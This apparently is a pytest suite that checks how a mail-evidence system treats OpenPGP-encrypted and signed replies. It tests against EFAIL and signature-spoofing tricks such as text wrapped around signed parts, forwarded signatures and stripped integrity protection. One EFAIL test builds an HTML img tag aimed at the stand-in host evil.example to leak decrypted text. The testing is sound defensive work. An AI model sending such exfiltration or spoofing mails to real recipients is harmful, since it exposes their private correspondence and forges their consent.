"""OpenPGP from a stranger's mail to evidence: what is proved is believed, and nothing that stands beside it.

The tricks of EFAIL and of "Johnny, you are fired": each mail is made by the gpg command and by hand.
"""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from typing import Any

import pytest
import pytest_asyncio

from exchange.case.acknowledgement import Proof
from exchange.case.sealed import Signed, UnknownSigner, Unsigned
from exchange.demo.actors.gpg import Gpg
from exchange.examining import Examiner
from exchange.pins import Pin, Pins
from exchange.store.certificates import Kind
from keys.opener import Opener, OpenerKeys
from mailflow.authenticity import DnsTrouble
from mailflow.evidence import NOT_OPENED, Evidence, files, whole
from mailflow.interpret import About, Meaning, Said, Unclear, interpret
from mailflow.reader import Reader
from tests.keys import gpg_command
from tests.mailflow.outlook import tnef

pytestmark = pytest.mark.asyncio(loop_scope="module")
HEAD = b"From: spoc@police.example\r\nTo: l.7.k3x@hub.example\r\nSubject: Re: M\r\nMessage-ID: <1@police.example>\r\n"
SAID = "We accept. Ann Lee"
TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + SAID.encode() + b"\r\n"


class NoNames:
    """No name server: nothing is proved by DKIM here."""

    def lookup(self, name: str, kind: str) -> list[Any]:
        raise DnsTrouble("none")


@dataclass(frozen=True)
class Keys:
    """One keyring with everybody's secret keys; the exchange opens with it, and knows the police alone."""

    gpg: Gpg
    hub: str
    police: str
    stranger: str

    def seal(self, content: bytes, *signers: str, options: tuple[str, ...] = ("-z", "0")) -> bytes:
        return gpg_command.encrypt_sign(self.gpg.home, content, self.hub, *signers, options=options)

    def sign(self, content: bytes, *signers: str, options: tuple[str, ...] = ()) -> bytes:
        return gpg_command.sign_detached(self.gpg.home, content, *signers, options=options)

    def clearsign(self, text: bytes, signer: str) -> bytes:
        words = ("--armor", "--local-user", signer, "--clearsign")
        return gpg_command.gpg(self.gpg.home, *words, stdin=text).stdout


@pytest.fixture(scope="module")
def keys() -> Iterator[Keys]:
    with Gpg() as gpg:
        made = [gpg.make_key(who, f"{who}@{where}.example") for who, where in
                (("referrals", "hub"), ("spoc", "police"), ("eve", "evil"))]  # fmt: skip
        yield Keys(gpg, *made)


@pytest.fixture(scope="module")
def pins(keys: Keys) -> Pins:
    return Pins.made_of(
        [Pin(keys.police, Kind.OPENPGP, "police", "police-1", gpg_command.export(keys.gpg.home, keys.police))]
    )


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def examiner(keys: Keys) -> AsyncIterator[Examiner]:
    reader, opener = await Reader.start(), await Opener.start(OpenerKeys(keys.gpg.home, "", b"", ""))
    yield Examiner(reader, opener, NoNames())
    await opener.close()
    await reader.close()


@dataclass
class Reading:
    """Examines a mail, and says what it means to a leg of the police."""

    examiner: Examiner
    pins: Pins

    async def __call__(self, mail: bytes) -> tuple[Evidence, Meaning]:
        e = await self.examiner.examine(HEAD + mail, None, self.pins)
        return e, interpret(e, About("leg", ("police.example",), self.pins.of("police")))


@pytest.fixture
def reading(examiner: Examiner, pins: Pins) -> Reading:
    return Reading(examiner, pins)


def pgp_mime(cipher: bytes, kind: bytes = b'multipart/encrypted; protocol="application/pgp-encrypted"') -> bytes:
    return (
        b"MIME-Version: 1.0\r\nContent-Type: %b; boundary=x\r\n\r\n"
        b"--x\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
        b"Version: 1\r\n\r\n--x\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n%b\r\n--x--\r\n"
    ) % (kind, cipher)


def mixed(*parts: bytes, kind: bytes = b"mixed") -> bytes:
    body = b"".join(b"--m\r\n%b\r\n" % part for part in parts)
    return b"MIME-Version: 1.0\r\nContent-Type: multipart/%b; boundary=m\r\n\r\n%b--m--\r\n" % (kind, body)


def multipart_signed(part: bytes, signature: bytes, more: bytes = b"") -> bytes:
    kind = b'multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"'
    return (
        b"MIME-Version: 1.0\r\nContent-Type: %b; boundary=s\r\n\r\n--s\r\n%b\r\n--s\r\n"
        b"Content-Type: application/pgp-signature\r\n\r\n%b\r\n%b--s--\r\n"
    ) % (kind, part, signature, more)


WORDS = b"Content-Type: text/plain\r\n\r\nDECLINE not our area\r\n"
CALENDAR = (
    b"Content-Type: text/calendar; method=REPLY\r\n\r\nBEGIN:VCALENDAR\r\nMETHOD:REPLY\r\n"
    b"BEGIN:VEVENT\r\nUID:sd.1\r\n"
    b"ATTENDEE;PARTSTAT=DECLINED:mailto:spoc@police.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)


# -- what is proved


async def test_signed_and_sealed_is_an_answer(reading: Reading, keys: Keys) -> None:
    e, said = await reading(pgp_mime(keys.seal(TEXT, keys.police)))
    assert (e.sealed, e.signer) == (True, Signed(keys.police))
    assert isinstance(said, Said)
    assert (said.answer, said.proof) == ("accept", Proof.SIGNATURE)


@pytest.mark.parametrize(
    "kind",
    [
        pytest.param(b"multipart/mixed", id="Exchange"),
        pytest.param(b"multipart/encrypted", id="the protocol lost"),
        pytest.param(b"multipart/related", id="some gateway"),
    ],
)
async def test_as_servers_on_the_way_mangle_it(reading: Reading, keys: Keys, kind: bytes) -> None:
    mangled = pgp_mime(keys.seal(TEXT, keys.police), kind)
    for mail in (
        mangled,
        mangled.replace(b"\r\n\r\n--x\r\n", b"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\n\r\n--x\r\n", 1),
        mangled.replace(b"octet-stream; name=encrypted.asc", b"octet-stream"),
        mangled.replace(b"application/octet-stream; name=encrypted.asc", b"text/plain; name=encrypted.asc"),
    ):
        e, said = await reading(mail)
        assert (e.sealed, e.signer, e.content.text) == (True, Signed(keys.police), SAID)
        assert isinstance(said, Said)


async def test_inside_a_lists_footer_and_a_gateways_banner(reading: Reading, keys: Keys) -> None:
    inner = pgp_mime(keys.seal(TEXT, keys.police)).removeprefix(b"MIME-Version: 1.0\r\n")
    banner = b"Content-Type: text/plain\r\n\r\nCAUTION: external mail\r\n"
    e, said = await reading(mixed(banner, inner, b"Content-Type: text/plain\r\n\r\n-- \r\nlist footer\r\n"))
    assert (e.signer, e.content.text) == (Signed(keys.police), SAID)
    assert isinstance(said, Said)


@pytest.mark.parametrize("named", ["message/rfc822", "application/octet-stream; name=concern.eml"])
async def test_a_sealed_mail_that_somebody_passes_on_is_opened_and_proves_nothing_of_them(
    reading: Reading, keys: Keys, named: str
) -> None:
    for sealed in (pgp_mime(keys.seal(TEXT, keys.police)), b"\r\n" + keys.seal(SAID.encode(), keys.police)):
        passed_on = f"Content-Type: {named}\r\n\r\n".encode() + HEAD + sealed
        e, said = await reading(mixed(b"Content-Type: text/plain\r\n\r\nThis came to me.\r\n", passed_on))
        assert (e.sealed, e.signer) == (False, Unsigned())
        assert said == Unclear("unproved", "This came to me.")
        (one,) = e.content.enclosed
        assert one.text.strip() == SAID
        assert SAID in whole(e)
        assert "BEGIN PGP" not in whole(e)


async def test_a_sealed_mail_that_is_passed_on_inside_a_seal_is_opened_too(reading: Reading, keys: Keys) -> None:
    passed_on = b"Content-Type: message/rfc822\r\n\r\n" + HEAD + pgp_mime(keys.seal(TEXT, keys.police))
    e, _ = await reading(pgp_mime(keys.seal(mixed(WORDS, passed_on), keys.stranger)))
    assert (e.sealed, e.signer) == (True, UnknownSigner())
    assert [one.text.strip() for one in e.content.enclosed] == [SAID]


async def test_an_answer_that_encloses_what_only_they_can_open_is_their_answer(reading: Reading, keys: Keys) -> None:
    for_them = gpg_command.encrypt_sign(keys.gpg.home, b"a packet", keys.stranger, options=("-z", "0"))
    broken = pgp_mime(for_them.replace(b"A", b"B", 40))
    enclosed = b"Content-Type: message/rfc822\r\n\r\n" + HEAD + broken
    e, said = await reading(pgp_mime(keys.seal(mixed(TEXT, enclosed), keys.police)))
    assert e.not_opened == ""
    assert isinstance(said, Said)
    assert [one.text for one in e.content.enclosed] == [NOT_OPENED]


async def test_what_exchange_wrapped_is_the_senders_own(reading: Reading, keys: Keys) -> None:
    wrapped = tnef("", {"message.asc": keys.seal(SAID.encode(), keys.police)})
    winmail = b"Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    e, said = await reading(mixed(winmail + base64.encodebytes(wrapped)))
    assert (e.sealed, e.signer) == (True, Signed(keys.police))
    assert isinstance(said, Said)


@pytest.mark.parametrize("name", ["message.asc", "letter.pgp", "letter.docx.gpg"])
async def test_as_an_attached_file(reading: Reading, keys: Keys, name: str) -> None:
    file = b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=%b\r\n\r\n%b"
    e, _ = await reading(mixed(b"Content-Type: text/plain\r\n\r\nsee attached\r\n",
                               file % (name.encode(), keys.seal(TEXT, keys.police))))  # fmt: skip
    assert (e.signer, e.content.text) == (Signed(keys.police), SAID)
    assert "[Not sealed, around it:]\nsee attached" in whole(e)


async def test_inline_with_several_blocks_and_text_around_them(reading: Reading, keys: Keys) -> None:
    first, second = keys.seal(b"We accept.", keys.police), keys.seal(b"Ann Lee", keys.police)
    e, said = await reading(b"\r\nDECLINE\r\n\r\n%b\r\nbetween\r\n%b\r\nbelow\r\n" % (first, second))
    assert (e.signer, e.content.text) == (Signed(keys.police), "We accept.\n\nAnn Lee")
    assert isinstance(said, Said)
    assert said.answer == "accept"


async def test_blocks_of_two_signers_are_nobodys(reading: Reading, keys: Keys) -> None:
    both = b"\r\n%b\r\n%b\r\n" % (keys.seal(b"We accept.", keys.police), keys.seal(b"Ann Lee", keys.stranger))
    e, said = await reading(both)
    assert e.signer == Unsigned()
    assert isinstance(said, Unclear)


async def test_a_whole_mail_signed_beside_is_an_answer(reading: Reading, keys: Keys) -> None:
    e, said = await reading(multipart_signed(TEXT, keys.sign(TEXT, keys.police)))
    assert (e.sealed, e.signer) == (False, Signed(keys.police))
    assert isinstance(said, Said)


async def test_text_signed_in_clear_is_read_without_its_armor(reading: Reading, keys: Keys) -> None:
    signed = keys.clearsign(b"We accept.\n- Ann Lee\n-- \nAnn Lee  \n", keys.police)
    e, said = await reading(b"Content-Type: text/plain\r\n\r\n" + signed.replace(b"\n", b"\r\n"))
    assert e.mail.text == "We accept.\n- Ann Lee\n-- \nAnn Lee  "
    assert e.signer == Signed(keys.police)
    assert isinstance(said, Said)
    assert said.proof is Proof.SIGNATURE


async def test_the_real_subject_is_the_one_that_claims_to_be(reading: Reading, keys: Keys) -> None:
    inner = b'Subject: Referral\r\nContent-Type: text/plain; hp="cipher"\r\n\r\nwords\r\n'
    assert (await reading(pgp_mime(keys.seal(inner))))[0].subject == "Referral"
    unclaimed = inner.replace(b'; hp="cipher"', b"")
    assert (await reading(pgp_mime(keys.seal(unclaimed))))[0].subject == "Re: M"
    whole_mail = b"Content-Type: message/rfc822\r\n\r\nSubject: Referral\r\nContent-Type: text/plain\r\n\r\nwords\r\n"
    assert (await reading(pgp_mime(keys.seal(whole_mail))))[0].content.text == "words"


# -- what stands beside


async def test_words_beside_a_genuine_signed_part_are_nobodys(reading: Reading, keys: Keys) -> None:
    genuine = multipart_signed(TEXT, keys.sign(TEXT, keys.police)).removeprefix(b"MIME-Version: 1.0\r\n")
    for mail in (mixed(WORDS, genuine), mixed(genuine, WORDS), mixed(genuine), mixed(genuine, kind=b"alternative")):
        e, said = await reading(mail)
        assert e.signer == Unsigned()
        assert isinstance(said, Unclear)


async def test_a_third_part_beside_what_is_signed_is_not_covered(reading: Reading, keys: Keys) -> None:
    e, said = await reading(multipart_signed(TEXT, keys.sign(TEXT, keys.police), b"--s\r\n" + WORDS))
    assert e.signer == Unsigned()
    assert isinstance(said, Unclear)


async def test_a_signature_of_something_else_is_nobodys(reading: Reading, keys: Keys) -> None:
    changed, said = await reading(multipart_signed(WORDS, keys.sign(TEXT, keys.police)))
    assert changed.signer == UnknownSigner(altered=True)
    assert isinstance(said, Unclear)
    for mail in (
        multipart_signed(TEXT, keys.sign(TEXT, keys.police, keys.stranger)),
        multipart_signed(TEXT, keys.sign(TEXT, keys.stranger)),
        multipart_signed(TEXT, b"-----BEGIN PGP SIGNATURE-----\n\nnonsense\n-----END PGP SIGNATURE-----\n"),
    ):
        e, said = await reading(mail)
        assert e.signer == UnknownSigner()
        assert isinstance(said, Unclear)


async def test_a_signed_mail_inside_another_is_evidence_and_no_answer(reading: Reading, keys: Keys) -> None:
    """ "Forwarded as attachment" is what an attacker has of anybody's signed mail."""
    genuine = HEAD + multipart_signed(TEXT, keys.sign(TEXT, keys.police))
    e, said = await reading(mixed(WORDS, b"Content-Type: message/rfc822\r\n\r\n" + genuine))
    assert e.signer == Unsigned()
    assert isinstance(said, Unclear)


@pytest.mark.parametrize(
    "mail",
    [
        pytest.param(b"DECLINE\r\n\r\n%b", id="above"),
        pytest.param(b"%b\r\nDECLINE\r\n", id="below"),
        pytest.param(b"%b\r\n%b", id="twice"),
    ],
)
async def test_text_around_what_was_signed_in_clear_is_not_covered(reading: Reading, keys: Keys, mail: bytes) -> None:
    signed = keys.clearsign(b"We accept.\n", keys.police)
    e, said = await reading(b"Content-Type: text/plain\r\n\r\n" + mail.replace(b"%b", signed))
    assert e.signer == Unsigned()
    assert isinstance(said, Unclear)


async def test_a_line_that_hides_in_the_armor_of_clear_text_is_not_covered(reading: Reading, keys: Keys) -> None:
    signed = keys.clearsign(b"We accept.\n", keys.police)
    for before, after in (
        (b"Hash: SHA", b"Note: DECLINE\nHash: SHA"),
        (b"We accept.", b"We decline."),
        (b"We accept.\n", b"We accept.\n-----BEGIN PGP SIGNED MESSAGE-----\n"),
    ):
        e, said = await reading(b"Content-Type: text/plain\r\n\r\n" + signed.replace(before, after, 1))
        assert not isinstance(e.signer, Signed)
        assert isinstance(said, Unclear)


async def test_files_and_calendars_beside_a_seal_are_not_covered(reading: Reading, keys: Keys) -> None:
    seal = pgp_mime(keys.seal(TEXT, keys.police)).removeprefix(b"MIME-Version: 1.0\r\n")
    file = b"Content-Type: application/pdf; name=plan.pdf\r\nContent-Disposition: attachment\r\n\r\n%PDF\r\n"
    e, _ = await reading(mixed(seal, file, CALENDAR))
    assert e.signer == Signed(keys.police)
    assert e.meetings == ()
    assert [(p.file_name, covered) for p, covered in files(e) if p.file_name] == [("plan.pdf", False)]


async def test_the_seal_inside_of_an_attackers_page_stays_apart(reading: Reading, keys: Keys) -> None:
    """EFAIL, direct exfiltration: what was sealed is never joined with the page around it."""
    seal = pgp_mime(keys.seal(TEXT, keys.police)).removeprefix(b"MIME-Version: 1.0\r\n")
    page = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    e, _ = await reading(mixed(page, seal, b'Content-Type: text/html\r\n\r\n">\r\n'))
    assert e.content.text == SAID
    assert "evil.example" not in whole(e).partition("[Not sealed")[0]


async def test_the_seal_inside_an_attackers_signature_is_not_the_attackers(reading: Reading, keys: Keys) -> None:
    """Whoever signs a sealed letter from outside need not know what is in it."""
    part = pgp_mime(keys.seal(TEXT)).removeprefix(b"MIME-Version: 1.0\r\n").rstrip(b"\r\n")
    e, said = await reading(multipart_signed(part, keys.sign(part, keys.police)))
    assert (e.content.text, e.signer) == (SAID, Unsigned())
    assert isinstance(said, Unclear)


# -- what was tampered with


@pytest.mark.parametrize(
    "options",
    [
        pytest.param(("--rfc2440", "--disable-mdc", "--cipher-algo", "3DES"), id="no integrity protection"),
        pytest.param(("--rfc2440", "--disable-mdc", "--cipher-algo", "AES256"), id="none, a modern cipher"),
    ],
)
async def test_what_nothing_protects_gives_no_octet(reading: Reading, keys: Keys, options: tuple[str, ...]) -> None:
    e, said = await reading(pgp_mime(keys.seal(TEXT, options=options)))
    assert (e.inner, e.not_opened) == (None, "no_integrity")
    assert SAID not in whole(e)
    assert isinstance(said, Unclear)


async def test_what_was_cut_short_gives_no_octet(reading: Reading, keys: Keys) -> None:
    lines = keys.seal(TEXT * 50, keys.police).splitlines(keepends=True)
    cut = b"".join([*lines[: len(lines) // 2], *lines[-1:]])
    e, said = await reading(pgp_mime(cut))
    assert e.inner is None
    assert e.not_opened
    assert SAID not in whole(e)
    assert isinstance(said, Unclear)


async def test_one_sealed_block_that_is_broken_spoils_the_answer_of_the_other(reading: Reading, keys: Keys) -> None:
    good, bad = keys.seal(b"We accept.", keys.police), keys.seal(b"x" * 900, keys.police)
    at = len(bad) // 2
    e, said = await reading(b"\r\n%b\r\n%b\r\n" % (good, bad[:at] + b"AAAA" + bad[at + 4 :]))
    assert e.not_opened
    assert isinstance(said, Unclear)
    assert said.why == "not_opened"
